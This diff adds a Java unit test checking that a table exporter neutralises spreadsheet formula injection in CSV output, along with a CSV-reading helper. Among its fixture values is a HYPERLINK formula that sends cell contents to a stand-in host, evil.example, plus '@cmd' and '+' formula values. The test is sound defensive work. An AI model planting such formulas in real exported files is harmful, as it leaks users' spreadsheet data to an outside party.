@@ -38,6 +38,62 @@ class TableExporterTest {
     }
 
     @Test
+    void csvNeutralisesTextThatASpreadsheetWouldRunAsAFormulaAndKeepsNegativeNumbersNumbers() {
+        String hyperlink = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Klik\")";
+        ReportTable t = ReportTable.titled("=Judul").column("Uraian", Kind.TEXT).column("Selisih (Rp)", Kind.RUPIAH)
+                .column("Kode", Kind.TEXT)
+                .row(hyperlink, -2_000_000L, "-5")
+                .row("+62 SUM(A1:A9)", -1L, "@cmd")
+                .row("\tTab di depan", 0L, "\rCR di depan")
+                .row("Belanja biasa - ATK", 5L, "5.1.02")
+                .build();
+        List<List<String>> rows = readCsv(new String(TableExporter.csv(List.of(t)), StandardCharsets.UTF_8));
+        assertThat(rows).containsExactly(
+                List.of("Uraian", "Selisih (Rp)", "Kode"),
+                List.of("'" + hyperlink, "-2000000", "'-5"),
+                List.of("'+62 SUM(A1:A9)", "-1", "'@cmd"),
+                List.of("'\tTab di depan", "0", "'\rCR di depan"),
+                List.of("Belanja biasa - ATK", "5", "5.1.02"));
+        assertThat(readCsv(new String(TableExporter.csv(List.of(t, t)), StandardCharsets.UTF_8)).get(0))
+                .as("a table title is text too").containsExactly("'=Judul");
+    }
+
+    /** Reads RFC 4180 text back into rows of cells, as a spreadsheet would before looking at the values. */
+    static List<List<String>> readCsv(String csv) {
+        List<List<String>> rows = new java.util.ArrayList<>();
+        List<String> row = new java.util.ArrayList<>();
+        StringBuilder cell = new StringBuilder();
+        boolean quoted = false;
+        for (int i = 0; i < csv.length(); i++) {
+            char c = csv.charAt(i);
+            if (quoted) {
+                if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
+                    cell.append('"');
+                    i++;
+                } else if (c == '"') {
+                    quoted = false;
+                } else {
+                    cell.append(c);
+                }
+            } else if (c == '"') {
+                quoted = true;
+            } else if (c == ',') {
+                row.add(cell.toString());
+                cell.setLength(0);
+            } else if (c == '\r' && i + 1 < csv.length() && csv.charAt(i + 1) == '\n') {
+                row.add(cell.toString());
+                cell.setLength(0);
+                rows.add(row);
+                row = new java.util.ArrayList<>();
+                i++;
+            } else {
+                cell.append(c);
+            }
+        }
+        return rows;
+    }
+
+    @Test
     void csvOfSeveralTablesNamesEach() {
         String csv = new String(TableExporter.csv(List.of(table("Satu"), table("Dua"))), StandardCharsets.UTF_8);
         assertThat(csv).startsWith("Satu\r\nUraian,").contains("\r\n\r\nDua\r\nUraian,");
